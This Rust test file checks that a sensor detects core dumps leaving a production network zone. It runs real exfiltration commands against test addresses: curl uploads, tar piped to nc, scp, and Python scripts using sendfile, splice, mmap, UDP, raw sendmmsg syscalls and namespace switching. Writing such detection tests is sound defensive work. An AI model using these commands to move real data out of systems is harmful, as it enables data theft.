//! A dump leaves production by tools that people use.

use std::{fs, os::unix::fs::PermissionsExt};

use sensor_abi::flow::Via;
use sensor_user::step::{Confidence, Severity, StepKind};

use super::Shared;
use crate::harness::{
    expect::{Expect, step},
    guard::Running,
    line::Alert,
    scene::{Dump, SOON, Scene, of_python, python, tool},
    world::{
        Zone::{self, Debug, Internet, Production},
        in_zone, port,
    },
};

pub(super) const ALL: &[Shared] = &[
    ("network::curl_upload", curl_upload),
    ("network::tar_gzip_nc", tar_gzip_nc),
    ("network::scp", scp),
    ("network::nginx_sendfile", nginx_sendfile),
    ("network::python_sendfile", python_sendfile),
    ("network::splice_to_a_socket", splice_to_a_socket),
    ("network::splice_that_waits", splice_that_waits),
    ("network::mmap_to_a_socket", mmap_to_a_socket),
    ("network::udp", udp),
    ("network::many_messages", many_messages),
    ("network::ipv6", ipv6),
    ("network::a_trickle_is_low", a_trickle_is_low),
    ("network::a_slow_start_is_told_once", a_slow_start_is_told_once),
    ("network::to_the_debug_zone", to_the_debug_zone),
    ("network::out_of_another_namespace", out_of_another_namespace),
    ("network::two_by_one_connection", two_by_one_connection),
];

/// The step by which it left, and the critical alert.
fn left(scene: &Scene<'_>, dump: &Dump, wanted: Expect) -> Alert {
    let wanted = wanted.zones("production", "internet").sure(Confidence::Direct);
    scene.sees(dump, &wanted);
    let alert = scene.alerts(dump, "dump-left-isolation", Severity::Critical, &wanted_alert(&wanted));
    assert!(alert.journaled && !alert.summary.is_empty() && alert.id != alert.key, "{alert:#?}");
    alert
}

/// An alert comes as soon as a threshold is passed: its bytes are those so far.
fn wanted_alert(step: &Expect) -> Expect {
    step.clone().between(4096, u64::MAX)
}

/// A process enters the namespace of the Internet with what it has read, and sends it there from within.
fn out_of_another_namespace(scene: &Scene<'_>) {
    let dump = scene.core();
    let (mut sink, port) = scene.sink(Internet, Production, dump.size);
    let script = "import ctypes, os, socket, sys
path, namespace, host, port = sys.argv[1:]
dump = open(path, 'rb').read()
assert ctypes.CDLL(None).setns(os.open(namespace, os.O_RDONLY), 0x40000000) == 0
socket.create_connection((host, int(port))).sendall(dump)";
    let address = Internet.address(Production).to_string();
    let arguments = ["-c", script, &dump.path, &Internet.namespace(), &address, &port.to_string()];
    let pid = scene.run(Production, python().to_str().unwrap(), &arguments).pid;
    assert!(sink.within(SOON).success());
    left(scene, &dump, step(StepKind::Sent).from(of_python(pid)).bytes(dump.size).hops(2));
}

fn curl_upload(scene: &Scene<'_>) {
    let dump = scene.core();
    let (mut sink, port) = scene.sink(Internet, Production, dump.size);
    let address = Internet.address(Production);
    let pid = scene.run(Production, "curl", &["-sS", "-T", &dump.path, &format!("http://{address}:{port}/up")]).pid;
    assert!(sink.within(SOON).success());
    let by = format!("curl[{pid}]");
    scene.sees(&dump, &step(StepKind::Read).from(&dump.path).to(&by).by("curl").bytes(dump.size).hops(1));
    let sent = step(StepKind::Sent).via(Via::Tcp).from(&by).by("curl").destination(address, port).hops(2);
    let alert = left(scene, &dump, sent.bytes(dump.size));
    assert_eq!(alert.step.transport.as_deref(), Some("tcp"));
    let seen = scene.sees(&dump, &step(StepKind::Sent).to("sink[]"));
    assert_eq!((seen.to_zone.as_str(), seen.port), ("internet", Some(port)), "the receiver is on this kernel");
}

fn tar_gzip_nc(scene: &Scene<'_>) {
    let dump = scene.core();
    let (mut sink, port) = scene.sink(Internet, Production, 2_000_000);
    let address = Internet.address(Production);
    scene.shell(Production, &format!("tar -cf - {} | gzip -1 | nc -N {address} {port}", dump.path));
    assert!(sink.within(SOON).success());
    scene.sees(&dump, &step(StepKind::Read).from(&dump.path).to("tar[]").bytes(dump.size).hops(1));
    scene.sees(&dump, &step(StepKind::Sent).via(Via::Pipe).from("tar[]").to("gzip[]").bytes(dump.size).hops(2));
    let packed = step(StepKind::Sent).via(Via::Pipe).from("gzip[]").to("nc[]").between(2_000_000, dump.size).hops(3);
    scene.sees(&dump, &packed);
    let sent = step(StepKind::Sent).via(Via::Tcp).from("nc[]").destination(address, port).hops(4);
    left(scene, &dump, sent.between(2_000_000, dump.size));
}

/// A real sshd in a zone, with keys of its own. Returns what a client needs besides.
pub(super) fn sshd(scene: &Scene<'_>, zone: Zone, other: Zone) -> (Running, Vec<String>) {
    let (port, keys) = (port(), scene.path("keys"));
    fs::create_dir(&keys).unwrap();
    for name in ["host", "id"] {
        scene.run(zone, "ssh-keygen", &["-q", "-t", "ed25519", "-N", "", "-f", &format!("{keys}/{name}")]);
    }
    fs::create_dir_all("/run/sshd").unwrap();
    let config = format!(
        "ListenAddress {}\nPort {port}\nHostKey {keys}/host\nAuthorizedKeysFile {keys}/id.pub\nStrictModes no\nUsePAM no\n\
         PermitRootLogin yes\nPidFile none\nSubsystem sftp internal-sftp\n",
        zone.address(other)
    );
    fs::write(format!("{keys}/sshd_config"), config).unwrap();
    let mut command = in_zone(zone, tool("sshd"));
    let running = scene.serve(command.args(["-D", "-e", "-f", &format!("{keys}/sshd_config")]), port);
    let options = ["IdentitiesOnly=yes", "StrictHostKeyChecking=no", "UserKnownHostsFile=/dev/null", "LogLevel=ERROR"];
    let mut client = vec!["-F".to_owned(), "none".to_owned(), "-P".to_owned(), port.to_string()];
    client.extend(["-i".to_owned(), format!("{keys}/id")]);
    client.extend(options.iter().flat_map(|o| ["-o".to_owned(), (*o).to_owned()]));
    (running, client)
}

/// `scp` to a real sshd; the copy lies in that zone afterwards.
fn scp(scene: &Scene<'_>) {
    let dump = scene.core();
    let (_sshd, mut arguments) = sshd(scene, Internet, Production);
    let copy = scene.path("received");
    arguments.extend([dump.path.clone(), format!("root@{}:{copy}", Internet.address(Production))]);
    let pid = scene.run(Production, "scp", &arguments).pid;
    let scp = format!("scp[{pid}]");
    scene.sees(&dump, &step(StepKind::Read).from(&dump.path).to(&scp).by("scp").bytes(dump.size).hops(1));
    let inside = step(StepKind::Sent).from(&scp).to("ssh[]").zones("production", "production");
    scene.sees(&dump, &inside.bytes(dump.size).hops(2));
    left(scene, &dump, step(StepKind::Sent).via(Via::Tcp).from("ssh[]").by("ssh").hops(3));
    scene.sees(&dump, &step(StepKind::Written).to(&copy).zones("internet", "internet").bytes(dump.size));
    let pid = scene.run(Internet, "cat", &[&copy]).pid;
    let read = step(StepKind::Read).from(&copy).to(format!("cat[{pid}]")).zones("internet", "internet");
    scene.sees(&dump, &read.clone().bytes(dump.size));
    scene.alerts(&dump, "dump-opened-internet-facing", Severity::High, &read);
}

/// nginx in production serves the scene's folder.
pub(super) fn nginx(scene: &Scene<'_>, port: u16) -> Running {
    let (folder, at) = (scene.path("nginx"), Production.address(Internet));
    fs::create_dir(&folder).unwrap();
    let temporary: String = ["client_body", "proxy", "fastcgi", "uwsgi", "scgi"]
        .map(|kind| format!("{kind}_temp_path {folder}/{kind};"))
        .concat();
    let config = format!(
        "user root; pid {folder}/pid; error_log {folder}/error; daemon off; worker_processes 1; events {{}}\n\
         http {{ sendfile on; access_log off; {temporary} server {{ listen {at}:{port}; root {}; }} }}\n",
        scene.folder().display()
    );
    fs::write(format!("{folder}/conf"), config).unwrap();
    let mut command = in_zone(Production, tool("nginx"));
    scene.serve(command.args(["-p", &folder, "-c", &format!("{folder}/conf")]), port)
}

fn file_name(dump: &Dump) -> &str {
    dump.path.rsplit('/').next().unwrap()
}

fn nginx_sendfile(scene: &Scene<'_>) {
    let dump = scene.core();
    let port = port();
    let _nginx = nginx(scene, port);
    let url = format!("http://{}:{port}/{}", Production.address(Internet), file_name(&dump));
    let pid = scene.run(Internet, "curl", &["-sS", "-f", "-o", "/dev/null", &url]).pid;
    let sent = step(StepKind::Sent).via(Via::Sendfile).from("nginx[]").by("nginx").hops(2).bytes(dump.size);
    left(scene, &dump, sent.clone());
    scene.sees(&dump, &sent.to(format!("curl[{pid}]")));
}

fn python_sendfile(scene: &Scene<'_>) {
    let dump = scene.core();
    let (mut sink, port) = scene.sink(Internet, Production, dump.size);
    let by = by_python(scene, &dump, port, "s.sendfile(open(path, 'rb'))");
    assert!(sink.within(SOON).success());
    let sent = step(StepKind::Sent).via(Via::Sendfile).from(&by).hops(2);
    left(scene, &dump, sent.destination(Internet.address(Production), port).bytes(dump.size));
}

fn splice_to_a_socket(scene: &Scene<'_>) {
    let dump = scene.core();
    let (mut sink, port) = scene.sink(Internet, Production, dump.size);
    let line = "x = os.open(path, os.O_RDONLY); r, w = os.pipe()
while n := os.splice(x, w, 1 << 16):
    while n: n -= os.splice(r, s.fileno(), n)";
    let by = by_python(scene, &dump, port, line);
    assert!(sink.within(SOON).success());
    scene.sees(&dump, &step(StepKind::Read).via(Via::Splice).from(&dump.path).to(&by).bytes(dump.size).hops(1));
    let sent = step(StepKind::Sent).via(Via::Splice).from(&by).destination(Internet.address(Production), port);
    left(scene, &dump, sent.bytes(dump.size));
}

/// A splice(2) that began before anything marked was in its pipe.
fn splice_that_waits(scene: &Scene<'_>) {
    let (dump, fifo, ready) = (scene.core(), scene.path("fifo"), scene.path("ready"));
    scene.run(Production, "mkfifo", &[&fifo]);
    let (mut sink, port) = scene.sink(Internet, Production, 60_000);
    let script = "import os, socket, sys
fifo, ready, host, port = sys.argv[1:]
s = socket.create_connection((host, int(port)))
r, n = os.open(fifo, os.O_RDWR), 0
open(ready, 'w').close()
while n < 60000: n += os.splice(r, s.fileno(), 60000 - n)";
    let address = Internet.address(Production);
    let mut relay = in_zone(Production, python());
    relay.args(["-c", script, &fifo, &ready, &address.to_string(), &port.to_string()]);
    let mut relay = scene.start(&mut relay);
    scene.waits_for(&ready);
    std::thread::sleep(std::time::Duration::from_millis(300));
    scene.shell(Production, &format!("head -c 60000 {} > {fifo}", dump.path));
    assert!(relay.within(SOON).success() && sink.within(SOON).success());
    let by = of_python(relay.pid());
    let sent = step(StepKind::Sent).via(Via::Splice).from(&by).zones("production", "internet");
    left(scene, &dump, sent.destination(address, port).bytes(60_000));
}

fn mmap_to_a_socket(scene: &Scene<'_>) {
    let dump = scene.core();
    let (mut sink, port) = scene.sink(Internet, Production, dump.size);
    let line = "s.sendall(mmap.mmap(os.open(path, os.O_RDONLY), 0, prot=mmap.PROT_READ))";
    let by = by_python(scene, &dump, port, line);
    assert!(sink.within(SOON).success());
    scene.sees(&dump, &step(StepKind::Mapped).via(Via::Mmap).from(&dump.path).to(&by));
    left(scene, &dump, step(StepKind::Sent).via(Via::Tcp).from(&by).bytes(dump.size).hops(2));
}

/// Python with a connection `s` to the Internet.
fn by_python(scene: &Scene<'_>, dump: &Dump, port: u16, line: &str) -> String {
    let script = format!(
        "import mmap, os, socket, sys\npath, host, port = sys.argv[1:]\ns = socket.create_connection((host, int(port)))\n{line}"
    );
    let (address, port) = (Internet.address(Production).to_string(), port.to_string());
    let pid = scene.run(Production, python().to_str().unwrap(), &["-c", &script, &dump.path, &address, &port]).pid;
    of_python(pid)
}

fn udp(scene: &Scene<'_>) {
    let dump = scene.core();
    let (address, port) = (Internet.address(Production), port());
    let script = "import socket, sys\npath, host, port = sys.argv[1:]\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n\
                  data = open(path, 'rb').read(100000)\n\
                  for at in range(0, len(data), 1000): s.sendto(data[at:at + 1000], (host, int(port)))";
    let arguments = ["-c", script, &dump.path, &address.to_string(), &port.to_string()];
    scene.run(Production, python().to_str().unwrap(), &arguments);
    let sent = step(StepKind::Sent).via(Via::Udp).destination(address, port).bytes(100_000);
    let alert = left(scene, &dump, sent.hops(2));
    assert_eq!(alert.step.transport.as_deref(), Some("udp"));
}

/// One call, three destinations: each is told with its bytes. And one call that receives three.
fn many_messages(scene: &Scene<'_>) {
    let dump = scene.core();
    let (address, ports) = (Internet.address(Production), [port(), port(), port()]);
    let receiver = "import ctypes, socket, sys, time
libc = ctypes.CDLL(None, use_errno=True)
s = [socket.socket(socket.AF_INET, socket.SOCK_DGRAM) for _ in range(3)]
for one, port in zip(s, sys.argv[2:]): one.bind((sys.argv[1], int(port))); one.settimeout(15)
open(sys.argv[5], 'w').close()
for one in s: assert len(one.recv(65536)) == 5000";
    let ready = scene.path("ready");
    let mut command = in_zone(Internet, python());
    let text = ports.map(|p| p.to_string());
    command.args(["-c", receiver, &address.to_string()]).args(&text).arg(&ready);
    let mut receiver = scene.start(&mut command);
    scene.waits_for(&ready);
    let script = format!(
        "import ctypes, struct
libc = ctypes.CDLL(None, use_errno=True)
data = ctypes.create_string_buffer(open(path, 'rb').read(15000), 15000)
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
names = [ctypes.create_string_buffer(struct.pack('>2xH4s8x', p, socket.inet_aton('{address}'))) for p in {ports:?}]
for name in names: name[0] = 2
parts = [ctypes.create_string_buffer(struct.pack('<QQ', ctypes.addressof(data) + 5000 * n, 5000)) for n in range(3)]
at = ctypes.addressof
head = b''.join(struct.pack('<QI4xQQQQi4xI4x', at(n), 16, at(p), 1, 0, 0, 0, 0) for n, p in zip(names, parts))
heads = ctypes.create_string_buffer(head, 192)
n = libc.syscall(307, u.fileno(), heads, 3, 0); assert n == 3, ctypes.get_errno()"
    );
    let by = by_python_alone(scene, &dump, &script);
    assert!(receiver.within(SOON).success());
    for port in ports {
        let sent = step(StepKind::Sent).via(Via::Udp).from(&by).destination(address, port).bytes(5000);
        left(scene, &dump, sent);
    }
}

/// Two dumps leave by one connection, one after the other: each has its own bytes.
fn two_by_one_connection(scene: &Scene<'_>) {
    let (first, second) = (scene.core(), scene.core());
    let (mut sink, port) = scene.sink(Internet, Production, first.size + second.size);
    let line = format!("for one in (path, '{}'): s.sendall(open(one, 'rb').read())", second.path);
    let by = by_python(scene, &first, port, &line);
    assert!(sink.within(SOON).success());
    for dump in [&first, &second] {
        left(scene, dump, step(StepKind::Sent).via(Via::Tcp).from(&by).bytes(dump.size));
    }
    scene.settle(&second);
    for dump in [&first, &second] {
        let last = scene.agent.steps(&dump.id).into_iter().rfind(|s| s.kind == StepKind::Sent).unwrap();
        assert_eq!(last.bytes, dump.size, "the last word");
    }
}

/// Python that makes its own connections.
fn by_python_alone(scene: &Scene<'_>, dump: &Dump, line: &str) -> String {
    let script = format!("import os, socket, sys\npath = sys.argv[1]\n{line}");
    let pid = scene.run(Production, python().to_str().unwrap(), &["-c", &script, &dump.path]).pid;
    of_python(pid)
}

/// Over IPv6, to an address that only `::/0` matches.
fn ipv6(scene: &Scene<'_>) {
    let dump = scene.core();
    let port = port();
    let mut sink = in_zone(Internet, crate::harness::roles::program("sink"));
    let mut sink = scene.serve(sink.args([format!("[2001:db8::2]:{port}"), dump.size.to_string()]), port);
    let url = format!("http://[2001:db8::2]:{port}/up");
    let pid = scene.run(Production, "curl", &["-sS", "-T", &dump.path, &url]).pid;
    assert!(sink.within(SOON).success());
    let sent = step(StepKind::Sent).via(Via::Tcp).from(format!("curl[{pid}]"));
    left(scene, &dump, sent.destination("2001:db8::2".parse().unwrap(), port).bytes(dump.size));
}

/// The few bytes of a key: said, and low.
fn a_trickle_is_low(scene: &Scene<'_>) {
    let dump = scene.core();
    let (mut sink, port) = scene.sink(Internet, Production, 300);
    let address = Internet.address(Production);
    scene.shell(Production, &format!("head -c 300 {} | nc -N {address} {port}", dump.path));
    assert!(sink.within(SOON).success());
    let sent = step(StepKind::Sent).via(Via::Tcp).from("nc[]").zones("production", "internet").between(300, 300);
    scene.alerts(&dump, "dump-left-isolation", Severity::Low, &sent);
    scene.quiet(&dump);
}

/// A few bytes, and then all others: one alert, on what it came to.
fn a_slow_start_is_told_once(scene: &Scene<'_>) {
    let dump = scene.core();
    let (mut sink, port) = scene.sink(Internet, Production, dump.size);
    let line = "import time\ndata = open(path, 'rb').read()\nfor at in (0, 300, 600): s.sendall(data[at:at + 300]); time.sleep(0.05)\n\
                s.sendall(data[900:])";
    let by = by_python(scene, &dump, port, line);
    assert!(sink.within(SOON).success());
    left(scene, &dump, step(StepKind::Sent).via(Via::Tcp).from(&by).bytes(dump.size));
    let told = scene.agent.alerts(&dump.id).into_iter().filter(|alert| alert.rule == "dump-left-isolation").count();
    assert_eq!(told, 1, "{}", scene.told(&dump.id));
}

/// Isolated to internal is a lesser thing.
fn to_the_debug_zone(scene: &Scene<'_>) {
    let dump = scene.core();
    let (mut sink, port) = scene.sink(Debug, Production, dump.size);
    let address = Debug.address(Production);
    scene.run(Production, "curl", &["-sS", "-T", &dump.path, &format!("http://{address}:{port}/up")]);
    assert!(sink.within(SOON).success());
    let sent = step(StepKind::Sent).zones("production", "debug").destination(address, port);
    scene.alerts(&dump, "dump-rank-raised", Severity::Medium, &sent);
    scene.settle(&dump);
    scene.no_alert(&dump, Severity::High);
}

/// Readable by a server that gives up root.
pub(super) fn readable(path: &str) {
    fs::set_permissions(path, fs::Permissions::from_mode(0o644)).unwrap();
}
